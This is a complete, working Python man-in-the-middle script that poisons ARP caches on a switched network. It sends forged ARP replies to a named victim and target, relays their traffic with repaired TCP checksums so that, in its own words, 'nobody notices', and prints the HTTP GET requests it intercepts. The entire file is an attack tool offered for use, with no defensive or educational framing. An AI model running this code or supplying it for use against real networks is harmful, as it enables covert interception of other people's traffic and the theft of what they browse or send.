"""Takes the place of TARGET for VICTIM on one switch, and reads along.

usage: mitm.py VICTIM TARGET

It tells each of them every fifth of a second that the other one has our card
(ARP, RFC 826), prints what VICTIM then asks, and hands everything on, so that
nobody notices.
"""
import socket, struct, sys, time

victim, target = sys.argv[1:]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("eth0", 0))
wire.settimeout(0.2)
me = wire.getsockname()[4]


def card(address):
    """The card behind an address: ask for it, then look into our own table."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", (address, 9))
    for _ in range(50):
        time.sleep(0.1)
        for line in open("/proc/net/arp"):
            column = line.split()
            if column[0] == address and column[2] != "0x0":
                return bytes.fromhex(column[3].replace(":", ""))
    sys.exit("nobody at " + address)


def checksum(data):
    """The internet checksum (RFC 1071)."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def repaired(packet):
    """The packet with a whole TCP checksum: a card computes it, and here is none."""
    head, segment = packet[:(packet[0] & 15) * 4], packet[(packet[0] & 15) * 4:]
    if packet[9] != 6:
        return packet
    segment = segment[:16] + b"\0\0" + segment[18:]
    pseudo = head[12:20] + struct.pack("!BBH", 0, 6, len(segment))
    return head + segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]


def lie(to, address, about):
    """An answer that nobody asked for: "about has this card, mine"."""
    return (to + me + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
            + me + socket.inet_aton(about) + to + socket.inet_aton(address))


cards = {socket.inet_aton(a): card(a) for a in (victim, target)}
lies = [lie(cards[socket.inet_aton(a)], a, b) for a, b in ((victim, target), (target, victim))]
last = 0
print("in between", flush=True)
while True:
    if time.time() - last > 0.2:
        for frame in lies:
            wire.send(frame)
        last = time.time()
    try:
        frame = wire.recv(65536)
    except TimeoutError:
        continue
    to = cards.get(frame[30:34])
    if frame[:6] != me or frame[12:14] != b"\x08\x00" or to is None:
        continue
    packet = frame[14:14 + struct.unpack("!H", frame[16:18])[0]]
    if b"GET " in packet:
        print("heard:", packet[packet.index(b"GET "):].split(b"\r")[0].decode(errors="replace"), flush=True)
    wire.send(to + me + b"\x08\x00" + repaired(packet))
